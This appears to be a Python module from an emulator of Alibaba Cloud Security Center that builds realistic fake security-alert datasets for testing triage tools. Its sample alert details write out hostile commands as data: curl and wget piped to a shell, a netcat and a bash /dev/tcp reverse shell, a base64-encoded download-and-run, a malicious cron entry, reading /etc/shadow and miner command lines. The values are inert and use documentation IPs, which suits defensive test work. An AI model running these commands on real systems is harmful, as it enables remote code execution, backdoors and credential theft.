"""Deterministic, realistic alert data per seed, and load/save of the dataset JSON file.

A dataset holds hosts, alerts and whitelist rules: the caller's (a Resource Directory administrator's) and, under
"members", those of each member account, each with its account id and edition. Times are stored as ages in seconds
("last_seen_ago_s") and made absolute when the emulator loads the file, so a saved dataset always
looks recent. Fields that the real API never shows (agent_online, process_alive, restricted_ops)
live only here and in the backend; the wire layer never emits them.
IP addresses are from the documentation ranges (RFC 5737) or private ranges only.
"""

from __future__ import annotations

import base64
import json
import random
import uuid
from pathlib import Path
from typing import Any

from . import catalog
from . import constants as C
from .similar import SCENARIO_DETAIL_KEYS

DATASET_FORMAT = "sas-emulator-dataset"
DATASET_VERSION = 1
DEMO_DATASET = Path(__file__).with_name("datasets") / "demo.json"
DEFAULT_MEMBER_ALERTS = 20
# SasVersion of a member (DescribeMonitorAccounts [SDK][DOC]: 0/1 Free, 2/3 Enterprise, 5 Advanced, 6 Anti-virus,
# 7 Ultimate), drawn with these weights: most members of an organisation that manages them run a paid edition.
MEMBER_EDITIONS = {"7": 4, "5": 3, "3": 2, "6": 1, "1": 1}
ACCOUNT_ID_DIGITS = 16  # Alibaba Cloud account ids (AliUid) are 16-digit integers [DOC examples]

# RFC 5737 documentation networks: the only public addresses the data uses.
DOC_NETWORKS = ("192.0.2", "198.51.100", "203.0.113")

# Relative frequency of each alert name in generated data (roughly what a busy account sees).
NAME_WEIGHTS: dict[str, int] = {
    "login_unusual_location": 8, "login_unusual_ip": 5, "brute_force_success": 3, "webshell_file": 4,
    "mining_program": 5, "trojan_program": 3, "ddos_trojan": 2, "self_mutating_trojan": 1,
    "suspicious_program": 2, "reverse_shell": 3, "suspicious_command": 4, "encoded_command": 2,
    "malicious_download_source": 3, "mining_pool": 2, "privileged_container": 2, "k8s_anonymous_access": 1,
    "suspicious_api_call": 3, "ak_leak_use": 1, "malicious_cron": 2, "malicious_startup": 1,
    "sensitive_file_tampered": 2, "suspicious_account": 2, "malicious_process_blocked": 2, "web_command_exec": 2,
}

# Operations that need the Security Center agent on the host (they fail with <op>.AgentOffline).
AGENT_OPERATIONS = frozenset({
    C.OP_BLOCK_IP, C.OP_KILL_AND_QUARA, C.OP_QUARA, C.OP_VIRUS_QUARA, C.OP_VIRUS_QUARA_BIN, C.OP_KILL_PROCESS,
    C.OP_CLEANUP, C.OP_CLIENT_PROBLEM_CHECK, C.OP_STOP_CONTAINER, C.OP_KILL_CONTAINER_PROCESS,
})

_ROLES = ("web-prod", "api-gateway", "order-svc", "payment-svc", "db-master", "db-replica", "redis-cache",
          "bastion", "jenkins-ci", "gitlab", "search-es", "mq-kafka", "batch-worker", "cms-wordpress")
_REGIONS = (("cn-hangzhou", "bp1", 6), ("cn-shanghai", "uf6", 3), ("cn-beijing", "2ze", 2))
_OSES = ("Alibaba Cloud Linux 3.2104", "CentOS 7.9 64bit", "Ubuntu 22.04 64bit", "Debian 12.4 64bit")
_CITIES = ("Frankfurt, Germany", "Sao Paulo, Brazil", "Lagos, Nigeria", "Moscow, Russia", "Jakarta, Indonesia",
           "Ashburn, United States", "Hanoi, Vietnam", "Amsterdam, Netherlands")
_USUAL = ("Hangzhou, Zhejiang", "Shanghai", "Beijing", "Shenzhen, Guangdong")
_LOGIN_USERS = ("root", "admin", "deploy", "ubuntu", "ecs-user", "git", "postgres")
_MINERS = (("Miner.Linux.XMRig.a", "/tmp/.X11-unix/xmrig", "./xmrig -o stratum+tcp://{ip}:3333 --donate-level 1"),
           ("Trojan.Linux.Kinsing.b", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"),
           ("Miner.Linux.Watchdogs.c", "/usr/sbin/watchdogs", "/usr/sbin/watchdogs -B"))
_TROJANS = (("Backdoor.Linux.Tsunami.a", "/dev/shm/.x/tsunami", "/dev/shm/.x/tsunami {ip} 6667"),
            ("Trojan.Linux.SysUpdate.a", "/usr/bin/.sshd", "/usr/bin/.sshd -D"),
            ("Backdoor.Linux.Rekoobe.b", "/var/tmp/.cache/rsync", "rsync --daemon"))
_DDOS = (("Backdoor.Linux.Mirai.gen", "/tmp/.mirai/dvrHelper", "dvrHelper"),
         ("DDoS.Linux.Gafgyt.c", "/var/run/gafgyt", "/var/run/gafgyt {ip}"),
         ("DDoS.Linux.Xorddos.b", "/lib/libudev.so.6", "/lib/libudev.so.6 -daemon"))
_WEBSHELLS = (("/var/www/html/uploads/shell.php", "PHP"), ("/usr/share/nginx/html/images/1.php", "PHP"),
              ("/opt/tomcat/webapps/ROOT/cmd.jsp", "JSP"), ("/var/www/wordpress/wp-content/plugins/x/up.php", "PHP"))
_COMMANDS = ("curl -fsSL http://{ip}/init.sh | sh", "wget -q -O- http://{ip}/x.sh | bash",
             "chmod 777 /tmp/.x && /tmp/.x", "cat /etc/shadow", "nc -e /bin/sh {ip} 4444")
_APIS = ("ecs:DescribeInstances", "ram:CreateUser", "ram:AttachPolicyToUser", "oss:ListBuckets",
         "ecs:CreateCommand", "sts:AssumeRole")
_SENSITIVE = ("/etc/ld.so.preload", "/usr/bin/ps", "/usr/bin/netstat", "/etc/profile.d/env.sh")
_STARTUP = ("/etc/init.d/sysupdate", "/etc/systemd/system/kthreaddi.service", "/etc/rc.d/rc.local")
_IMAGES = ("registry.example.com/shop/nginx:1.25", "registry.example.com/shop/order:2.3.1",
           "registry.example.com/ops/debug-tools:latest")
_REMARKS = ("handled by on-call", "confirmed with app owner", "known scanner", "test environment", "")


HOST_REQUIRED = ("uuid", "instance_id", "instance_name")
ALERT_REQUIRED = ("id", "name_key", "level", "status", "first_seen_ago_s", "last_seen_ago_s", "unique_info",
                  "alarm_unique_info")


class DatasetError(ValueError):
    """The dataset file is not one this emulator can load."""


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for dummy in range(n))


def _uuid4(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _doc_ip(rng: random.Random) -> str:
    return f"{rng.choice(DOC_NETWORKS)}.{rng.randint(1, 254)}"


_INSTANCE_ID_CHARS = "abcdefghijklmnopqrstuvwxyz0123456789"


def _make_host(rng: random.Random, index: int, k8s: bool, used_ips: set[str]) -> dict[str, Any]:
    region, prefix = rng.choices([(entry[0], entry[1]) for entry in _REGIONS],
                                 weights=[entry[-1] for entry in _REGIONS])[0]
    role = "k8s-node" if k8s else _ROLES[index % len(_ROLES)]
    internet_ip = ""
    if rng.random() < 0.75:
        while not internet_ip or internet_ip in used_ips:
            internet_ip = _doc_ip(rng)
        used_ips.add(internet_ip)
    host = {
        "uuid": _uuid4(rng),
        "instance_id": "i-" + prefix + "".join(rng.choice(_INSTANCE_ID_CHARS) for dummy in range(17)),
        "instance_name": f"{role}-{index + 1:02d}",
        "internet_ip": internet_ip,
        "intranet_ip": f"10.{rng.randint(0, 31)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}",
        "region_id": region,
        "os": rng.choice(_OSES),
        "agent_online": rng.random() >= 0.12,
        "cluster": None,
    }
    if k8s:
        host["cluster"] = {"cluster_id": "c" + _hex(rng, 32), "cluster_name": rng.choice(("ack-prod", "ack-staging"))}
    return host


def _details(rng: random.Random, name: catalog.AlertName, host: dict[str, Any] | None) -> list[dict[str, str]]:
    ip = _doc_ip(rng)
    rows: list[tuple[str, str]] = []
    kind = name.kind
    if kind in ("login", "brute_force"):
        rows = [("login_source_ip", ip), ("login_user", rng.choice(_LOGIN_USERS)),
                ("login_location", rng.choice(_CITIES)), ("usual_locations", rng.choice(_USUAL)),
                ("login_type", "SSH")]
        if kind == "brute_force":
            rows.append(("failed_attempts", str(rng.randint(40, 4000))))
    elif kind == "webshell":
        path, lang = rng.choice(_WEBSHELLS)
        rows = [("file_path", path), ("md5", _hex(rng, 32)), ("trojan_type", f"{lang} web shell")]
    elif kind in ("miner", "trojan", "ddos"):
        pool = {"miner": _MINERS, "trojan": _TROJANS, "ddos": _DDOS}[kind]
        virus, path, cmd = rng.choice(pool)
        rows = [("virus_name", virus), ("file_path", path), ("md5", _hex(rng, 32)), ("process_path", path),
                ("cmdline", cmd.format(ip=ip)), ("pid", str(rng.randint(1200, 65000))),
                ("user", rng.choice(("root", "www-data", "nobody"))), ("parent_process", "/usr/sbin/crond")]
    elif kind == "reverse_shell":
        port = rng.choice((4444, 8080, 1337, 9001))
        rows = [("cmdline", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"), ("process_path", "/usr/bin/bash"),
                ("pid", str(rng.randint(1200, 65000))),
                ("parent_process", rng.choice(("java", "/usr/sbin/sshd", "php-fpm"))),
                ("remote_ip", ip), ("remote_port", str(port)), ("user", rng.choice(("root", "www-data")))]
    elif kind == "command":
        rows = [("cmdline", rng.choice(_COMMANDS).format(ip=ip)), ("process_path", "/usr/bin/bash"),
                ("user", rng.choice(("root", "www-data"))), ("parent_process", "/usr/sbin/sshd")]
    elif kind == "encoded_command":
        payload = base64.b64encode(f"curl -s http://{ip}/a | sh".encode()).decode()
        rows = [("cmdline", f"echo {payload} | base64 -d | bash"), ("process_path", "/usr/bin/bash"), ("user", "root")]
    elif kind == "network":
        rows = [("remote_ip", ip), ("remote_port", str(rng.choice((80, 443, 8080)))),
                ("process_path", rng.choice(("/usr/bin/wget", "/usr/bin/curl"))),
                ("pid", str(rng.randint(1200, 65000)))]
    elif kind == "mining_pool":
        rows = [("remote_ip", ip), ("remote_port", str(rng.choice((3333, 5555, 14444)))),
                ("remote_domain", rng.choice(("xmr.pool.example", "stratum.mine.example"))),
                ("process_path", "/tmp/.X11-unix/xmrig"), ("pid", str(rng.randint(1200, 65000)))]
    elif kind == "container":
        rows = [("container_name", rng.choice(("nginx", "order-api", "debug"))), ("image", rng.choice(_IMAGES)),
                ("k8s_namespace", rng.choice(("default", "payments", "kube-system")))]
    elif kind == "api_call":
        rows = [("api_name", rng.choice(_APIS)), ("access_key_id", "LTAI5t" + "*" * 10 + _hex(rng, 4).upper()),
                ("call_source_ip", ip), ("user_agent", rng.choice(("aliyun-cli/3.0.204", "python-requests/2.31.0")))]
    elif kind == "cron":
        rows = [("cmdline", f"*/5 * * * * curl -fsSL http://{ip}/cr.sh | sh"), ("file_path", "/var/spool/cron/root")]
    elif kind == "startup":
        rows = [("file_path", rng.choice(_STARTUP)), ("md5", _hex(rng, 32))]
    elif kind == "sensitive_file":
        rows = [("file_path", rng.choice(_SENSITIVE)), ("md5", _hex(rng, 32))]
    elif kind == "account":
        rows = [("account_name", rng.choice(("sysadm1n", "backup_", "mysqld"))), ("login_user", "root")]
    elif kind == "defense":
        rows = [("process_path", "/tmp/.ice-unix/kthreadd"), ("cmdline", "/tmp/.ice-unix/kthreadd -c /tmp/.c"),
                ("md5", _hex(rng, 32)), ("rule_name", "Block malicious mining process")]
    elif kind == "web_exec":
        rows = [("cmdline", rng.choice(("sh -c whoami", "sh -c id", "sh -c 'cat /etc/passwd'"))),
                ("parent_process", "java -jar /opt/app/app.jar"), ("process_path", "/usr/bin/sh"),
                ("url", "/api/upload?file=../../x.jsp")]
    else:  # pragma: no cover - catalog and generator are kept in step by the tests
        raise ValueError(f"no detail generator for kind {kind!r}")
    return [{"key": k, "value": v} for k, v in rows]


def _container(rng: random.Random, host: dict[str, Any]) -> dict[str, str]:
    cluster = host["cluster"]
    app = rng.choice(("nginx", "order-api", "payment-api"))
    return {
        "cluster_id": cluster["cluster_id"], "cluster_name": cluster["cluster_name"],
        "namespace": rng.choice(("default", "payments", "kube-system")),
        "pod_name": f"{app}-{_hex(rng, 10)}-{_hex(rng, 5)}", "node_name": f"cn-hangzhou.{host['intranet_ip']}",
        "node_id": host["instance_id"], "container_id": _hex(rng, 64), "image": rng.choice(_IMAGES),
        "image_id": "sha256:" + _hex(rng, 64), "image_uuid": _hex(rng, 32), "app_name": app,
    }


# Which operation most likely led to each non-pending status (for generated history).
_HISTORY_OPS = {
    C.STATUS_HANDLED: (C.OP_MANUAL_HANDLED, C.OP_BLOCK_IP, C.OP_KILL_AND_QUARA, C.OP_QUARA, C.OP_KILL_PROCESS,
                       C.OP_CLEANUP),
    C.STATUS_IGNORED: (C.OP_IGNORE,),
    C.STATUS_FALSE_POSITIVE: (C.OP_ADVANCE_MARK_MIS_INFO, C.OP_MARK_MIS_INFO),
}


def _status(rng: random.Random) -> int:
    r = rng.random()
    if r < 0.62:
        return C.STATUS_PENDING
    if r < 0.72:
        return C.STATUS_HANDLED
    if r < 0.80:
        return C.STATUS_IGNORED
    if r < 0.86:
        return C.STATUS_FALSE_POSITIVE
    if r < 0.92:
        return C.STATUS_EXPIRED
    return C.STATUS_PENDING


def _set_status(rng: random.Random, record: dict[str, Any], status: int) -> None:
    """Status with a matching history: times, the operation that led there, its result code."""
    name = catalog.ALERT_NAMES[record["name_key"]]
    operation = None
    if status in _HISTORY_OPS:
        choices = [op for op in _HISTORY_OPS[status] if op in name.operations]
        if not choices:  # e.g. no whitelist op offered: it was ignored instead
            status, choices = C.STATUS_IGNORED, [C.OP_IGNORE]
        operation = rng.choice(choices)
    last_ago = rng.randint(60, 7 * 86400)
    if status == C.STATUS_EXPIRED:
        last_ago = rng.randint(31 * 86400, 60 * 86400)
    record["status"] = status
    record["last_seen_ago_s"] = last_ago
    record["first_seen_ago_s"] = last_ago + rng.choice((0, 0, rng.randint(60, 2 * 86400)))
    record["last_operation"] = operation
    record["operate_ago_s"] = rng.randint(30, last_ago) if operation else None
    record["operate_error_code"] = f"{operation}.{C.RESULT_SUCCESS}" if operation else None
    record["operate_msg"] = rng.choice(_REMARKS) if operation else None


def generate(seed: int = 1, alerts: int = 50, members: int = 0,
             member_alerts: int = DEFAULT_MEMBER_ALERTS) -> dict[str, Any]:
    """Build a dataset; the same arguments always give the same JSON. ``members`` member accounts of a
    Resource Directory (the caller is their administrator) each hold ``member_alerts`` pending alerts; the
    administrator's own data is the same whatever the members."""
    if alerts < 0 or members < 0 or member_alerts < 0:
        raise ValueError("alerts, members and member_alerts must be >= 0")
    data = _account_data(seed, alerts)
    if members:
        data["members"] = _members(seed, members, member_alerts, data)
    return data


def _account_data(seed: int, alerts: int) -> dict[str, Any]:
    """One account's data set: hosts, alerts with their history, whitelist rules."""
    rng = random.Random(seed)
    n_hosts = max(4, min(80, alerts // 4 + 2))
    n_k8s = max(1, n_hosts // 5)
    used_ips: set[str] = set()
    hosts = [_make_host(rng, i, i >= n_hosts - n_k8s, used_ips) for i in range(n_hosts)]
    ecs_hosts = [h for h in hosts if h["cluster"] is None]
    k8s_hosts = [h for h in hosts if h["cluster"] is not None]
    # Keep at least one host with an online agent and one without, whatever the seed.
    ecs_hosts[0]["agent_online"] = True
    if len(ecs_hosts) > 2:
        ecs_hosts[-1]["agent_online"] = False

    # Every alert type appears once before names are drawn by weight.
    by_type: dict[str, list[catalog.AlertName]] = {}
    for name in catalog.ALERT_NAMES.values():
        by_type.setdefault(name.type_key, []).append(name)
    picks = [rng.choice(by_type[t]) for t in catalog.ALERT_TYPES][:alerts]
    weighted = list(NAME_WEIGHTS)
    picks += [catalog.ALERT_NAMES[k] for k in rng.choices(weighted, weights=[NAME_WEIGHTS[k] for k in weighted],
                                                          k=max(0, alerts - len(picks)))]
    rng.shuffle(picks)

    account_uid = _account_id(rng)
    records: list[dict[str, Any]] = []
    for name in picks:
        host = None
        if name.asset == catalog.ASSET_ECS:
            host = rng.choice(ecs_hosts)
        elif name.asset == catalog.ASSET_CONTAINER:
            host = rng.choice(k8s_hosts)
        record = _alert_record(rng, name, host)
        _set_status(rng, record, _status(rng))
        records.append(record)

    _ensure_scenarios(rng, records, hosts)
    _share_similar_details(records)
    # IDs grow with the first occurrence time, like the service's sequence.
    records.sort(key=lambda r: (-r["first_seen_ago_s"], r["unique_info"]))
    next_id = rng.randint(700_000_000, 709_000_000)
    for record in records:
        record["id"] = next_id
        next_id += rng.randint(1, 400)
    rules = _whitelist_rules(rng, records, hosts)
    return {
        "format": DATASET_FORMAT,
        "version": DATASET_VERSION,
        "seed": seed,
        "alerts_requested": alerts,
        "account": {"ali_uid": account_uid},
        "hosts": hosts,
        "alerts": records,
        "whitelist_rules": rules,
    }


def _account_id(rng: random.Random) -> int:
    return rng.randint(10 ** (ACCOUNT_ID_DIGITS - 1), 2 * 10 ** (ACCOUNT_ID_DIGITS - 1))


def _members(seed: int, count: int, alerts: int, admin: dict[str, Any]) -> list[dict[str, Any]]:
    """``count`` member accounts, each its own data set of ``alerts`` pending alerts (seeded from ``seed`` and its
    place), with an account id, an edition and the time it joined; alert ids go on above the administrator's and
    each other's, so an id names one alert in the whole organisation."""
    rng = random.Random(f"sas-emulator/{seed}/members")
    used_ids = {admin["account"]["ali_uid"]}
    next_id = max((a["id"] for a in admin["alerts"]), default=0) + 1
    members = []
    for dummy in range(count):
        member = _account_data(rng.getrandbits(32), alerts)
        uid = _account_id(rng)
        while uid in used_ids:
            uid = _account_id(rng)
        used_ids.add(uid)
        for record in member["alerts"]:
            _set_status(rng, record, C.STATUS_PENDING)  # a member's alerts wait for its triage
        next_id = _renumber(member["alerts"], next_id + rng.randint(1, 400))
        edition = rng.choices(list(MEMBER_EDITIONS), weights=list(MEMBER_EDITIONS.values()))[0]
        members.append({"ali_uid": uid, "sas_version": edition,
                        "added_ago_s": rng.randint(86400, 400 * 86400), "post_basic_service": 1,
                        "hosts": member["hosts"], "alerts": member["alerts"],
                        "whitelist_rules": member["whitelist_rules"]})
    return members


def _renumber(records: list[dict[str, Any]], first_id: int) -> int:
    """Shift the ids of ``records`` (ascending) to start at first_id, keeping their gaps; returns the last id."""
    offset = first_id - min((r["id"] for r in records), default=first_id)
    for record in records:
        record["id"] += offset
    return max((r["id"] for r in records), default=first_id)


def _alert_record(rng: random.Random, name: catalog.AlertName, host: dict[str, Any] | None) -> dict[str, Any]:
    """One pending alert of ``name`` on ``host`` (None: an account-level alert), seen just now, id 0: its level,
    fingerprints, details, process and edition limits as generated data has them. generate() then gives it a
    history; new_alert() keeps it just detected."""
    level = name.level
    if rng.random() < 0.1:  # the engine sometimes grades the same name differently
        level = rng.choice(C.LEVELS)
    record: dict[str, Any] = {
        "id": 0,
        "name_key": name.key,
        "level": level,
        "host_uuid": host["uuid"] if host else None,
        "status": C.STATUS_PENDING,
        "first_seen_ago_s": 0,
        "last_seen_ago_s": 0,
        "unique_info": _hex(rng, 32),
        "alarm_unique_info": _hex(rng, 32),
        "details": _details(rng, name, host),
        "process_alive": bool(name.process_based and rng.random() < 0.7),
        "restricted_ops": [],
        "sale_version": "1",
        "has_trace_info": name.asset == catalog.ASSET_ECS and rng.random() < 0.4,
        "last_operation": None,
        "operate_ago_s": None,
        "operate_error_code": None,
        "operate_msg": None,
        "container": _container(rng, host) if name.asset == catalog.ASSET_CONTAINER and host else None,
    }
    agent_ops = [op for op in name.operations if op in AGENT_OPERATIONS]
    if agent_ops and rng.random() < 0.1:  # edition limits: isolation ops need a paid edition
        record["restricted_ops"] = agent_ops
        record["sale_version"] = "0"
    return record


# --- alerts detected while the emulator runs --------------------------------------------------------------
# How many valid name keys an error lists (the catalog has two dozen).
NAME_KEYS_SHOWN = 6


def host_fits(name: catalog.AlertName, host: dict[str, Any] | None) -> bool:
    """Where generated data puts an alert of ``name``: ECS alerts on hosts outside a cluster, container alerts
    on cluster nodes, account-level (cloud) alerts on no host."""
    if name.asset == catalog.ASSET_CLOUD or host is None:
        return name.asset == catalog.ASSET_CLOUD and host is None
    return (host.get("cluster") is not None) == (name.asset == catalog.ASSET_CONTAINER)


def new_alert(rng: random.Random, hosts: list[dict[str, Any]], *, level: str | None = None,
              name_key: str | None = None, host_uuid: str | None = None) -> dict[str, Any]:
    """A just-detected alert (pending, seen 0 s ago, id 0) in the dataset's format, on one of ``hosts``:
    the name ``name_key`` or one drawn by NAME_WEIGHTS among those that fit the host, the host ``host_uuid`` or
    one drawn among those that fit the name, the level given or the name's usual one. Every field is checked
    before the first draw, so a refused call leaves ``rng`` as it was; ValueError names the field."""
    _check_level(level)
    host = _named_host(hosts, host_uuid)
    name = _named_alert_name(name_key, host, hosts)
    if name is None:
        name = _draw_name(rng, host, hosts)
    if host is None and name.asset != catalog.ASSET_CLOUD:
        host = rng.choice([h for h in hosts if host_fits(name, h)])
    record = _alert_record(rng, name, host)
    record["level"] = level or name.level
    return record


def _check_level(level: Any) -> None:
    if level is not None and level not in C.LEVELS:
        raise ValueError(f"level must be one of {', '.join(C.LEVELS)}, got {level!r}")


def _named_host(hosts: list[dict[str, Any]], host_uuid: Any) -> dict[str, Any] | None:
    if host_uuid is None:
        return None
    host = next((h for h in hosts if h["uuid"] == host_uuid), None)
    if host is None:
        raise ValueError(f"host_uuid {host_uuid!r} is not a host of the data set (GET /_emulator/hosts lists them)")
    return host


def _named_alert_name(name_key: Any, host: dict[str, Any] | None,
                      hosts: list[dict[str, Any]]) -> catalog.AlertName | None:
    """The alert name ``name_key`` (None when not given), checked against the host asked for or the data set."""
    if name_key is None:
        return None
    name = catalog.ALERT_NAMES.get(name_key) if isinstance(name_key, str) else None
    if name is None:
        shown = ", ".join(list(catalog.ALERT_NAMES)[:NAME_KEYS_SHOWN])
        raise ValueError(f"name_key {name_key!r} is not an alert name of the catalog; valid keys include {shown} "
                         f"({len(catalog.ALERT_NAMES)} in all, catalog.ALERT_NAMES)")
    if host is not None and not host_fits(name, host):
        raise ValueError(f"name_key {name.key!r} does not fit host_uuid {host['uuid']!r}: {_where(name)}")
    if host is None and name.asset != catalog.ASSET_CLOUD and not any(host_fits(name, h) for h in hosts):
        raise ValueError(f"name_key {name.key!r} fits no host of the data set: {_where(name)}")
    return name


def _where(name: catalog.AlertName) -> str:
    if name.asset == catalog.ASSET_CLOUD:
        return "an account-level alert has no host (leave host_uuid out)"
    if name.asset == catalog.ASSET_CONTAINER:
        return "a container alert needs a cluster node (a host with a cluster)"
    return "an ECS alert needs a host outside a cluster"


def _draw_name(rng: random.Random, host: dict[str, Any] | None, hosts: list[dict[str, Any]]) -> catalog.AlertName:
    """A name by NAME_WEIGHTS among those that fit ``host``, or any host of the data set when none is asked for
    (account-level names always fit: they need no host)."""
    if host is not None:
        keys = [k for k in NAME_WEIGHTS if host_fits(catalog.ALERT_NAMES[k], host)]
    else:
        keys = [k for k in NAME_WEIGHTS if catalog.ALERT_NAMES[k].asset == catalog.ASSET_CLOUD
                or any(host_fits(catalog.ALERT_NAMES[k], h) for h in hosts)]
    return catalog.ALERT_NAMES[rng.choices(keys, weights=[NAME_WEIGHTS[k] for k in keys])[0]]


def _ensure_scenarios(rng: random.Random, records: list[dict[str, Any]], hosts: list[dict[str, Any]]) -> None:
    """Make sure the failure paths tests and demos need exist in any data set of 20+ alerts."""
    if len(records) < 20:
        return
    host_by_uuid = {h["uuid"]: h for h in hosts}

    # 0. every status a triage run meets: handled, ignored, whitelisted, expired
    for status in (C.STATUS_HANDLED, C.STATUS_IGNORED, C.STATUS_FALSE_POSITIVE, C.STATUS_EXPIRED):
        if any(r["status"] == status for r in records):
            continue
        for record in reversed(records):
            name = catalog.ALERT_NAMES[record["name_key"]]
            if record["status"] == C.STATUS_PENDING and (
                    status != C.STATUS_FALSE_POSITIVE or C.OP_ADVANCE_MARK_MIS_INFO in name.operations):
                _set_status(rng, record, status)
                break

    def pending(pred) -> list[dict[str, Any]]:
        return [r for r in records if r["status"] == C.STATUS_PENDING and pred(catalog.ALERT_NAMES[r["name_key"]], r)]

    # 1. an agent-side operation on a host whose agent is offline
    if not pending(lambda n, r: r["host_uuid"] and not host_by_uuid[r["host_uuid"]]["agent_online"]
                   and any(op in AGENT_OPERATIONS for op in n.operations)):
        candidates = pending(lambda n, r: n.key.startswith("login_") and r["host_uuid"])
        if candidates:
            host_by_uuid[candidates[0]["host_uuid"]]["agent_online"] = False
    online = [r for r in records if r["host_uuid"] and host_by_uuid[r["host_uuid"]]["agent_online"]]
    online_ids = {id(r) for r in online}
    # 2. a malicious process that is already gone (kill -> ProcessNotExist) and one still running
    malware = pending(lambda n, r: n.type_key == "malicious_process_cloud" and id(r) in online_ids)
    if malware:
        if all(r["process_alive"] for r in malware):
            malware[0]["process_alive"] = False
        if len(malware) > 1 and not any(r["process_alive"] for r in malware):
            malware[1]["process_alive"] = True
    # 3. an alert whose isolation ops are edition-limited (UserCanOperate false)
    if not any(r["restricted_ops"] for r in records if r["status"] == C.STATUS_PENDING):
        candidates = pending(lambda n, r: n.key in ("webshell_file", "login_unusual_ip", "suspicious_program"))
        if candidates:
            name = catalog.ALERT_NAMES[candidates[-1]["name_key"]]
            candidates[-1]["restricted_ops"] = [op for op in name.operations if op in AGENT_OPERATIONS]
            candidates[-1]["sale_version"] = "0"


def _share_similar_details(records: list[dict[str, Any]]) -> None:
    """Similar alerts (similar.py) as an account meets them: among the pending alerts of one name holding a detail of
    a scenario (a source IP, a file MD5, a URL), every other one takes the first one's value, so each scenario finds a
    group. Values only: no draw, so everything else generated stays as it was."""
    for keys in SCENARIO_DETAIL_KEYS.values():
        groups: dict[tuple[str, str], list[dict[str, str]]] = {}
        for record in records:
            if record["status"] != C.STATUS_PENDING:
                continue
            detail = next((d for d in record["details"] if d["key"] in keys), None)
            if detail is not None:
                groups.setdefault((record["name_key"], detail["key"]), []).append(detail)
        for details in groups.values():
            for detail in details[1::2]:
                detail["value"] = details[0]["value"]


def _whitelist_rules(rng: random.Random, records: list[dict[str, Any]],
                     hosts: list[dict[str, Any]]) -> list[dict[str, str]]:
    """A few existing rules, so MarkField is not always empty (the replace-all gotcha of MarkMissParam)."""
    rules: list[dict[str, str]] = []
    seen: set[str] = set()
    for record in records:
        name = catalog.ALERT_NAMES[record["name_key"]]
        if record["status"] != C.STATUS_PENDING or not name.mark_fields or name.key in seen or not record["host_uuid"]:
            continue
        if len(seen) >= 3:
            break
        seen.add(name.key)
        field = catalog.MARK_FIELDS[name.mark_fields[0]]
        # one rule for this asset only, one for all assets
        operate, value = _rule_value(rng, field.name)
        rules.append({"name_key": name.key, "uuid": record["host_uuid"], "field": field.name,
                      "operate": operate, "value": value})
        if len(name.mark_fields) > 1:
            operate, value = _rule_value(rng, name.mark_fields[1])
            rules.append({"name_key": name.key, "uuid": C.MARK_SCOPE_ALL, "field": name.mark_fields[1],
                          "operate": operate, "value": value})
    return rules


def _rule_value(rng: random.Random, field: str) -> tuple[str, str]:
    """A plausible existing whitelist entry (an admin tool, a backup job, an office network)."""
    if field in ("loginSourceIp", "remoteIp"):
        return C.MARK_OPERATE_IN_IP_SEGMENT, f"{rng.choice(DOC_NETWORKS)}.0/24"
    if field == "md5":
        return C.MARK_OPERATE_EQUAL, _hex(rng, 32)
    if field == "loginUser":
        return C.MARK_OPERATE_EQUAL, rng.choice(("backup", "zabbix", "ansible"))
    if field in ("procPath", "filePath"):
        return C.MARK_OPERATE_CONTAINS, rng.choice(("/opt/backup/", "/usr/local/monitor/", "/usr/bin/rsync"))
    return C.MARK_OPERATE_CONTAINS, rng.choice(("ansible-playbook", "/opt/backup/run.sh", "zabbix_agentd"))


def save_dataset(data: dict[str, Any], path: str | Path) -> None:
    Path(path).write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def load_dataset(path: str | Path) -> dict[str, Any]:
    try:
        data = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise DatasetError(f"cannot read dataset {path}: {exc}") from exc
    validate_dataset(data)
    return data


def validate_dataset(data: Any) -> None:
    if not isinstance(data, dict) or data.get("format") != DATASET_FORMAT:
        raise DatasetError(f'not a dataset file (expected "format": "{DATASET_FORMAT}")')
    if data.get("version") != DATASET_VERSION:
        raise DatasetError(f"unsupported dataset version {data.get('version')!r}")
    members = data.get("members", [])
    if not isinstance(members, list) or not all(isinstance(m, dict) for m in members):
        raise DatasetError('"members" must be a list of objects')
    account_ids: set[Any] = {data.get("account", {}).get("ali_uid")}
    alert_ids: set[int] = set()
    _validate_account(data, alert_ids)
    for member in members:
        uid = member.get("ali_uid")
        if not isinstance(uid, int) or uid in account_ids:
            raise DatasetError(f"member ali_uid must be a unique integer: {uid!r}")
        account_ids.add(uid)
        _validate_account(member, alert_ids)


def _validate_account(data: dict[str, Any], seen: set[int]) -> None:
    """One account's hosts, alerts and rules; ``seen`` gathers the alert ids, unique across the accounts."""
    for key in ("hosts", "alerts", "whitelist_rules"):
        if not isinstance(data.get(key), list):
            raise DatasetError(f'"{key}" must be a list')
    for host in data["hosts"]:
        missing = [k for k in HOST_REQUIRED if not isinstance(host.get(k), str)]
        if missing:
            raise DatasetError(f"host {host.get('uuid')!r}: missing {', '.join(missing)}")
    host_ids = {h.get("uuid") for h in data["hosts"]}
    for alert in data["alerts"]:
        if not isinstance(alert.get("id"), int) or alert["id"] in seen:
            raise DatasetError(f"alert ids must be unique integers: {alert.get('id')!r}")
        seen.add(alert["id"])
        missing = [k for k in ALERT_REQUIRED if k not in alert]
        if missing:
            raise DatasetError(f"alert {alert['id']}: missing {', '.join(missing)}")
        if alert.get("name_key") not in catalog.ALERT_NAMES:
            raise DatasetError(f"alert {alert['id']}: unknown name_key {alert.get('name_key')!r}")
        if alert.get("host_uuid") is not None and alert["host_uuid"] not in host_ids:
            raise DatasetError(f"alert {alert['id']}: unknown host_uuid {alert['host_uuid']!r}")
        if alert.get("status") not in C.EVENT_STATUSES:
            raise DatasetError(f"alert {alert['id']}: unknown status {alert.get('status')!r}")
        if alert.get("level") not in C.LEVELS:
            raise DatasetError(f"alert {alert['id']}: unknown level {alert.get('level')!r}")
    for rule in data["whitelist_rules"]:
        if rule.get("name_key") not in catalog.ALERT_NAMES or rule.get("field") not in catalog.MARK_FIELDS:
            raise DatasetError(f"bad whitelist rule {rule!r}")
